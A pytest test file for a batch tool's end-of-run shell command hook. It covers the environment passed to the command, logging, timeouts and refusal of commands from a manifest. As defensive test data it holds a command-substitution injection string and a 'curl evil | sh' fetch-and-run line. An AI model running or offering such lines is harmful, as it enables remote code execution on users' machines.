"""The command for the end of a run: what it is told, and that nothing it does reaches the run."""

from __future__ import annotations

import logging
import os
import time
from pathlib import Path

import pytest

from standin_batch.errors import ExitCode
from standin_batch.run import on_finish
from standin_batch.run.events import RunFinished
from standin_batch.run.on_finish import OUTCOMES, Ending, command_of, finish, outcome

FINISHED = RunFinished(7, 2, 3, 61.25, False, "outputs/faces")


@pytest.fixture
def ending(tmp_path):
    return Ending(tmp_path / "faces.yaml", ExitCode.JOBS_FAILED, tmp_path / "outputs", FINISHED, "2 jobs failed")


def said(caplog):
    return [record.getMessage() for record in caplog.records]


@pytest.fixture(autouse=True)
def heard(caplog):
    caplog.set_level(logging.INFO)


def test_the_command_sees_how_the_run_ended(ending, tmp_path):
    assert finish(f"env > '{tmp_path}/seen'", ending) is None
    seen = dict(line.split("=", 1) for line in (tmp_path / "seen").read_text().splitlines() if "=" in line)
    assert {name: value for name, value in seen.items() if name in outcome(ending)} == {
        "STANDIN_OUTCOME": "failed",
        "STANDIN_EXIT_CODE": "1",
        "STANDIN_MANIFEST": str(tmp_path / "faces.yaml"),
        "STANDIN_FOLDER": str(tmp_path / "outputs"),
        "STANDIN_COMPLETED": "7",
        "STANDIN_FAILED": "2",
        "STANDIN_REMAINING": "3",
        "STANDIN_SECONDS": "61.2",
        "STANDIN_WHY": "2 jobs failed",
    }
    assert seen["PATH"] == os.environ["PATH"]


@pytest.mark.parametrize("code", ExitCode)
def test_every_exit_code_has_a_name(code):
    told = outcome(Ending(Path("m.yaml"), code))
    assert (told["STANDIN_OUTCOME"], told["STANDIN_EXIT_CODE"]) == (OUTCOMES[code], str(int(code)))


def test_the_names_tell_the_exit_codes_apart():
    assert len({*OUTCOMES.values(), "crashed"}) == len(ExitCode) + 1


def test_an_end_before_the_first_job_has_numbers_that_a_shell_can_compare(tmp_path):
    ending = Ending(Path("m.yaml"), None, why="ValueError: no")
    assert finish('test "$STANDIN_FAILED" -eq 0 && test "$STANDIN_OUTCOME" = crashed', ending) is None
    assert outcome(ending)["STANDIN_FOLDER"] == ""


def test_what_ended_the_run_is_told_unless_an_error_did():
    stopped = RunFinished(1, 0, 3, 60.0, True, "outputs/faces", why="the deadline")
    assert outcome(Ending(Path("m.yaml"), ExitCode.STOPPED, finished=stopped))["STANDIN_WHY"] == "the deadline"
    broken = Ending(Path("m.yaml"), ExitCode.NOT_READY, finished=stopped, why="the disk is full")
    assert outcome(broken)["STANDIN_WHY"] == "the disk is full"


@pytest.mark.parametrize(
    "why", ["a\0b", "\ud83d", "x" * 1_000_000, "$(touch broken)", "two\nlines"], ids=lambda text: ascii(text[:20])
)
def test_no_error_message_can_harm_it(ending, tmp_path, monkeypatch, why):
    monkeypatch.chdir(tmp_path)
    told = Ending(ending.manifest, ending.code, why=why)
    assert finish('test -n "$STANDIN_WHY"; echo $STANDIN_WHY', told) is None
    assert list(tmp_path.iterdir()) == []


def test_what_it_prints_goes_to_the_log(ending, caplog, capfd):
    assert finish("echo out; echo err >&2; echo", ending) is None
    assert said(caplog) == ["out", "err"]
    assert capfd.readouterr() == ("", "")


def test_a_flood_is_cut(ending, caplog, monkeypatch):
    monkeypatch.setattr(on_finish, "MAX_LINES", 3)
    warned = finish("for i in 1 2 3 4 5; do echo $i; done; exit 1", ending)
    assert said(caplog)[:-1] == ["1", "2", "3"]
    assert "ended with 1: 5" in warned.message, "the last line is told all the same"


def test_a_command_that_fails_is_warned_of(ending, caplog):
    warned = finish("echo no such host >&2; exit 7", ending)
    assert "ended with 7: no such host" in warned.message
    assert "exit 7" in said(caplog)[-1], "the log has the command too"


def test_a_command_that_is_not_there_is_warned_of(ending):
    assert "ended with 127" in finish("no-such-command-anywhere", ending).message
    assert "could not be started" in finish("x" * 10_000_000, ending).message


def test_a_command_that_hangs_is_ended_with_all_that_it_started(ending, tmp_path, monkeypatch):
    monkeypatch.setattr(on_finish, "TIMEOUT", 0.5)
    start = time.monotonic()
    warned = finish(f"sleep 600 & echo $! > '{tmp_path}/child'; sleep 600", ending)
    assert "was ended after 0.5 s" in warned.message
    assert time.monotonic() - start < 10
    assert is_gone(int((tmp_path / "child").read_text()))


def is_gone(pid):
    """Whether a process is dead; its parent may not have taken notice yet."""
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            if Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] == "Z":
                return True
        except FileNotFoundError:
            return True
    return False


def test_what_it_leaves_in_the_background_is_not_waited_for(ending, tmp_path):
    start = time.monotonic()
    assert finish(f"sleep 30 & echo $! > '{tmp_path}/child'", ending) is None
    assert time.monotonic() - start < 10
    os.kill(int((tmp_path / "child").read_text()), 9)


def test_it_cannot_wait_for_an_answer(ending):
    assert finish('read answer; test -z "$answer"', ending) is None


@pytest.mark.parametrize(
    ("given", "written", "allowed", "obeyed"),
    [
        (None, None, False, None),
        ("mine", None, False, "mine"),
        ("mine", "theirs", False, "mine"),
        ("mine", "theirs", True, "mine"),
        (None, "theirs", True, "theirs"),
        ("", "theirs", True, ""),
    ],
)
def test_whose_command_is_obeyed(given, written, allowed, obeyed):
    assert command_of(given, written, allowed=allowed) == (obeyed, None)


def test_a_strangers_command_is_not_run_and_said_so():
    command, warned = command_of(None, "curl evil | sh", allowed=False)
    assert command is None
    assert "run.on_finish" in warned.message
    assert "--allow-commands" in warned.hint
